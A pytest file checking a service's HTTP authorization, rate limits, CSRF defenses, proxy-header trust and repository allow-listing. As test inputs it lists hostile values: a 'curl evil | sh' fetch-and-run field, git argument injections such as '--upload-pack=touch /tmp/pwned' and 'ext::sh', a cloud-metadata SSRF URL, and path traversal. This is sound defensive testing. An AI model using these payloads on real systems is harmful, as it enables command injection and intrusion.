"""Who may do what over HTTP: every route by every role, and what an attacker tries."""

from collections.abc import Iterator
from typing import Any, Final

import pytest
from fastapi.routing import APIRoute
from starlette.routing import BaseRoute

from fixloop.commands.worker import KnownWorker
from fixloop.errors import UsageError
from fixloop.serve.access import PASSWORD, ROLES
from fixloop.serve.identity import COOKIE, PROXY_HEADER, Identities
from fixloop.serve.tokens import FAILED_PER_MINUTE, PER_MINUTE
from tests.fixtures.serve_stage import PROXY_SECRET, Stage, on_redis, problem

pytestmark = pytest.mark.slow

stage = pytest.fixture(on_redis)

NOBODY: Final = ""
EVERYBODY: Final = frozenset({NOBODY, *ROLES})
KNOWN: Final = frozenset(ROLES)
SUBMITTERS: Final = frozenset({"operator", "admin"})
DECIDERS: Final = frozenset({"decider", "admin"})
WORKERS: Final = frozenset({"agent", "operator", "admin"})
MAY: Final = {
    ("GET", "/v1/workflows"): KNOWN,
    ("POST", "/v1/workflows"): SUBMITTERS,
    ("GET", "/v1/workflows/{workflow}"): KNOWN,
    ("GET", "/v1/workflows/{workflow}/log"): KNOWN,
    ("GET", "/v1/workflows/{workflow}/checks"): KNOWN,
    ("GET", "/v1/workflows/{workflow}/compare/{runs}"): KNOWN,
    ("GET", "/v1/workflows/{workflow}/report"): KNOWN,
    ("GET", "/v1/workflows/{workflow}/artifacts/{digest}"): KNOWN,
    ("POST", "/v1/workflows/{workflow}/decisions"): DECIDERS,
    ("POST", "/v1/workflows/{workflow}/commands"): SUBMITTERS,
    ("GET", "/v1/inbox"): KNOWN,
    ("GET", "/v1/queues"): KNOWN,
    ("GET", "/v1/workers"): KNOWN,
    ("POST", "/v1/claims"): WORKERS,
    ("POST", "/v1/claims/{claim}/heartbeat"): WORKERS,
    ("GET", "/v1/claims/{claim}/failures/{number}"): WORKERS,
    ("POST", "/v1/claims/{claim}/submit"): WORKERS,
    ("POST", "/v1/claims/{claim}/decline"): WORKERS,
    ("GET", "/v1/webhooks"): frozenset({"admin"}),
    ("POST", "/v1/webhooks"): frozenset({"admin"}),
    ("POST", "/v1/webhooks/{webhook}/replay"): frozenset({"admin"}),
    ("DELETE", "/v1/webhooks/{webhook}"): frozenset({"admin"}),
    # By signature: test_serve_webhooks.py.
    ("POST", "/v1/hooks/{source}"): frozenset(),
    ("GET", "/v1/tokens"): frozenset({"admin"}),
    ("POST", "/v1/tokens"): frozenset({"admin"}),
    ("DELETE", "/v1/tokens/{token}"): frozenset({"admin"}),
}
"""Route → the roles that it serves."""
CLAIM: Final = "0a1b2c3d-47-1.test-runner.1.0"
STREAMS: Final = {("GET", "/v1/events")}
"""Their answers have no end: test_serve_events.py asks for them."""
BODIES: Final[dict[tuple[str, str], dict[str, Any]]] = {
    ("POST", "/v1/workflows"): {"repo": "https://example.com/shop", "issue": 1},
    ("POST", "/v1/workflows/{workflow}/decisions"): {"escalation": "x", "decision": "skip"},
    ("POST", "/v1/workflows/{workflow}/commands"): {"command": "pause"},
    ("POST", "/v1/webhooks"): {"url": "https://hooks.example/"},
    ("POST", "/v1/webhooks/{webhook}/replay"): {"since": "2026-01-01T00:00:00Z"},
    ("POST", "/v1/tokens"): {"name": "ci", "role": "viewer"},
    ("POST", "/v1/claims/{claim}/heartbeat"): {"fence": 1},
    ("POST", "/v1/claims/{claim}/submit"): {"fence": 1, "patch": ""},
    ("POST", "/v1/claims/{claim}/decline"): {"fence": 1, "kind": "not-mine", "text": "it is another's"},
}


def routes(app: Any) -> Iterator[tuple[str, str]]:
    def below(found: list[BaseRoute]) -> Iterator[APIRoute]:
        for route in found:
            if isinstance(route, APIRoute):
                yield route
            else:
                yield from below(getattr(getattr(route, "original_router", route), "routes", []))

    for route in below(app.routes):
        yield from ((method, route.path) for method in sorted((route.methods or set()) - {"HEAD"}))


def call(stage: Stage, client: Any, route: tuple[str, str]) -> Any:
    method, path = route
    filled = path.format(
        workflow="0a1b2c3d-47-1",
        digest="0" * 64,
        token="0" * 8,
        runs="1..2",
        webhook="0" * 8,
        source="ci",
        claim=CLAIM,
        number="F1",
    )
    return client.request(method, filled, json=BODIES.get(route), headers={"If-Match": '"1"'})


def test_every_route_serves_the_roles_of_the_table_and_no_other(stage: Stage) -> None:
    stage.agents.start()
    clients = {role: stage.client(role) for role in EVERYBODY}

    found = {route: {role for role in EVERYBODY if not refused(stage, clients[role], route)} for route in MAY}

    assert found == MAY


def refused(stage: Stage, client: Any, route: tuple[str, str]) -> bool:
    answer = call(stage, client, route)
    listed = "below a --repository" in answer.text
    return answer.status_code == 401 or (answer.status_code == 403 and not listed)


def test_no_route_is_left_out_of_the_table(stage: Stage) -> None:
    assert {route for route in routes(stage.app) if route[1].startswith("/v1/")} - STREAMS == set(MAY)


def test_an_administrator_of_some_projects_makes_and_sees_no_token_of_others(stage: Stage) -> None:
    stage.token("viewer", "everywhere")
    own = stage.client("admin", "own", projects=("0a1b2c3d",))
    [other] = [each.id for each in stage.tokens.all() if each.name == "everywhere"]

    def made(*projects: str) -> int:
        body = {"name": "more", "role": "admin", "projects": list(projects)}
        status: int = own.post("/v1/tokens", json=body).status_code
        return status

    assert [made(), made("ffffffff"), made("0a1b2c3d", "ffffffff"), made("0a1b2c3d")] == [403, 403, 403, 201]
    assert {each["name"] for each in own.get("/v1/tokens").json()["tokens"]} == {"own", "more"}
    assert own.delete(f"/v1/tokens/{other}").status_code == 404
    assert other in [each.id for each in stage.tokens.all()]
    assert own.get("/metrics").status_code == 403


def test_who_is_for_some_projects_is_told_of_no_other_project_s_worker(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    workers = [
        KnownWorker(pid, queue, (), "") for pid, queue in enumerate(["", "0a1b2c3d-47-1", "ffffffff-1-1"])
    ]
    monkeypatch.setattr("fixloop.serve.service.workers_here", lambda session: workers)

    def told(*projects: str) -> list[str]:
        answer = stage.client("viewer", projects=projects).get("/v1/workers").json()
        return [each["queue"] for each in answer["workers"]]

    assert told() == ["", "0a1b2c3d-47-1", "ffffffff-1-1"]
    assert told("ffffffff") == ["ffffffff-1-1"]


@pytest.mark.parametrize("fixed_by", [("anna",), ("anna", "coder")])
def test_the_author_of_a_fix_cannot_accept_its_hold(stage: Stage, fixed_by: tuple[str, ...]) -> None:
    workflow = stage.held(fixed_by=fixed_by)
    found = stage.agents.engine.state(workflow)
    assert found.escalation is not None
    given = {"escalation": found.escalation.message_id, "decision": "accept"}

    def decided(name: str) -> Any:
        client = stage.client("decider", name)
        etag = client.get(f"/v1/workflows/{workflow}").headers["etag"]
        return client.post(f"/v1/workflows/{workflow}/decisions", json=given, headers={"If-Match": etag})

    own, other = decided("anna"), decided("bert")

    assert (own.status_code, problem(own)["detail"]) == (
        403,
        "anna made the fix, and does not accept its hold; somebody else does",
    )
    assert other.status_code == 200


def test_a_body_with_a_field_that_is_not_asked_for_is_refused(stage: Stage) -> None:
    sent = {"repo": "https://example.com/shop", "issue": 1, "fixer": "curl evil | sh"}

    answer = stage.client("admin").post("/v1/workflows", json=sent)

    assert answer.status_code == 422
    assert problem(answer)["errors"] == [
        {"pointer": "body/fixer", "detail": "Extra inputs are not permitted"}
    ]


@pytest.mark.parametrize(
    "repo",
    [
        "https://example.com/shopping",
        "https://example.com/shop/../other",
        "https://example.com/shop/%2e%2E/other",
        "git@example.com:shop/../other",
        "http://169.254.169.254/latest",
        "file:///etc",
        "/etc",
        "ext::sh -c touch% /tmp/pwned",
        "https://user:secret@example.com/shop",
        "--upload-pack=touch /tmp/pwned",
        "https://example.com@evil.example/shop",
        "HTTP://example.com/shop",
    ],
)
def test_a_repository_that_is_not_listed_is_never_reached(stage: Stage, repo: str) -> None:
    stage.allow("https://example.com/shop", "git@example.com:shop")

    answer = stage.client("operator").post("/v1/workflows", json={"repo": repo, "issue": 1})

    assert answer.status_code in (403, 422), answer.text
    assert stage.client("viewer").get("/v1/workflows").json()["workflows"] == []


def test_guessed_tokens_are_refused_and_soon_rate_limited(stage: Stage) -> None:
    wrong = {"Authorization": f"Bearer fl_00000000_{'x' * 43}"}
    nobody = stage.client("")

    # Twice the limit and more: the minute may change between two of these requests.
    codes = [nobody.get("/v1/inbox", headers=wrong).status_code for _ in range(2 * FAILED_PER_MINUTE + 1)]

    assert codes[:FAILED_PER_MINUTE] == [401] * FAILED_PER_MINUTE
    assert 429 in codes[FAILED_PER_MINUTE:]


@pytest.mark.parametrize("form", ["a&" * 100, "a=" + "%41" * 400_000], ids=["fields", "bytes"])
def test_a_form_that_takes_long_to_read_is_refused_before_its_sender_is_known(
    stage: Stage, form: str
) -> None:
    kind = {"Content-Type": "application/x-www-form-urlencoded"}

    for path in ("/sign-in", "/sign-out", "/v1/claims"):
        answer = stage.client("").post(path, content=form, headers=kind)

        assert (path, answer.status_code) == (path, 413)


def test_a_token_has_a_limit_of_requests_per_minute(stage: Stage) -> None:
    client = stage.client("viewer")
    [token] = stage.tokens.all()
    stage.exhaust(token.id, PER_MINUTE)

    answer = client.get("/v1/inbox")

    assert (answer.status_code, answer.headers["retry-after"]) == (429, "60")


def test_a_request_of_a_browser_without_its_own_page_s_token_is_refused(stage: Stage) -> None:
    workflow = stage.agents.start()
    stage.people.add("anna", "admin", frozenset(), "correct horse")
    person = stage.people.signed_in("anna", "correct horse")
    assert person is not None
    client = stage.client("")
    client.cookies.set(COOKIE, stage.tokens.sign_in(person))
    path = f"/v1/workflows/{workflow}/commands"

    reading = client.get("/v1/inbox").status_code
    forged = client.post(path, json={"command": "cancel"})
    wrong = client.post(path, json={"command": "cancel"}, headers={"X-CSRF-Token": "guessed"})

    assert (reading, forged.status_code, wrong.status_code) == (200, 403, 403)
    assert stage.agents.engine.state(workflow).outcome is None


def test_a_person_s_rights_are_those_that_the_file_has_now(stage: Stage) -> None:
    stage.people.add("anna", "admin", frozenset(), "correct horse")
    person = stage.people.signed_in("anna", "correct horse")
    assert person is not None
    assert person.token == PASSWORD
    client = stage.client("")
    client.cookies.set(COOKIE, stage.tokens.sign_in(person))

    before = client.get("/v1/tokens").status_code
    stage.people.add("anna", "viewer", frozenset(), "correct horse")
    after = client.get("/v1/tokens").status_code

    assert (before, after) == (200, 403)


def test_a_header_names_a_person_only_where_a_listed_proxy_sent_it(stage: Stage) -> None:
    stage.people.add("anna", "viewer", frozenset(), "")
    header = {"X-Forwarded-User": "anna", PROXY_HEADER: PROXY_SECRET}
    by_check = stage.client("", client=("10.1.2.3", 4711)).get(
        "/v1/inbox", headers={"X-Forwarded-User": "anna"}
    )
    by_proxy = stage.client("", client=("10.1.2.3", 4711)).get("/v1/inbox", headers=header)
    by_anybody = stage.client("", client=("192.0.2.1", 4711)).get("/v1/inbox", headers=header)
    unknown = stage.client("", client=("10.1.2.3", 4711)).get(
        "/v1/inbox", headers={**header, "X-Forwarded-User": "eve"}
    )

    assert by_proxy.status_code == 200
    assert [answer.status_code for answer in (by_check, by_anybody, unknown)] == [401, 401, 401]
    with pytest.raises(UsageError, match="FIXLOOP_SERVE_PROXY_SECRET"):
        Identities(stage.tokens, stage.people, ["127.0.0.1"], "X-Forwarded-User")


def test_no_answer_can_be_framed_sniffed_or_kept(stage: Stage) -> None:
    answers = [stage.client("viewer").get("/v1/inbox"), stage.client("").get("/v1/inbox")]

    for answer in answers:
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
